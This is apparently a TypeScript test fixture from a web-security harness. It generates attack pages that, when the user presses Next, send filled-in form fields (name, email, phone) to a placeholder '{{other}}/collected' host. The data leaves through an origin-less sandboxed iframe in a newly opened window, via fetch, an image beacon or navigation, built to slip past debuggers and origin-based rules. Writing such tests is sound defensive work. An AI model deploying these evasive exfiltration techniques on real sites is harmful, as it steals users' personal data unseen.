import type { PageAttack } from '../attack';
import { bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage, fillOf } from './markup';

/*
 * A window that the page opens with the run's own press on its Next, in which a frame of no origin sends the answers: no debugger is in it
 * by then, and no rule can name where its requests come from.
 */

/** Ways to a window of the page's own, with `markup` in it. */
const windows: Readonly<Record<string, string>> = {
  blank: `open('about:blank').document.write(markup)`,
  blob: `open(URL.createObjectURL(new Blob([markup], { type: 'text/html' })))`,
  'picture-in-picture': `documentPictureInPicture.requestWindow().then((opened) => { opened.document.body.innerHTML = markup; })`,
};

/** What the frame in it does, with the address `to`. */
const acts: Readonly<Record<string, string>> = {
  fetch: `<script>fetch(to, { mode: 'no-cors' })</script>`,
  image: `<script>new Image().src = to</script>`,
  'leaving-with-its-window': `<script>top.location = to</script>`,
};

const next = `<p>Step 1 of 2</p><button type="button">Next</button>`;

const page = (opening: string, act: string): string => `${applicationPage('', { button: next })}<script>
const form = document.forms[0];
let isOver = false;
addEventListener('pointerdown', () => {
  if (isOver || ['first_name', 'last_name', 'email', 'phone'].some((name) => form[name].value === '')) return;
  isOver = true;
  const to = '{{other}}/collected?' + new URLSearchParams([...new FormData(form)]);
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts allow-top-navigation');
  frame.srcdoc = '<script>const to = ' + JSON.stringify(to) + '<\\/script>' + ${JSON.stringify(act).replaceAll('</', '<\\/')};
  const markup = frame.outerHTML;
  ${opening};
}, true);
</script>`;

export const openedWindows: PageAttack[] = Object.entries(windows).flatMap(([kind, opening]) =>
  Object.entries(acts).map(
    ([name, act]): PageAttack => ({
      id: `opened-window/${kind}/${name}`,
      class: 'opened-window',
      goal: `a frame of no origin in a window of the page sends what was filled in, by ${name}`,
      needsBrowser: true,
      stage: fillOf(page(opening, act), 1_200),
      judge: (evidence) => ({ bytesElsewhere: bytesReceived(evidence, ['other']), frozen: frozenIn(evidence) }),
    }),
  ),
);
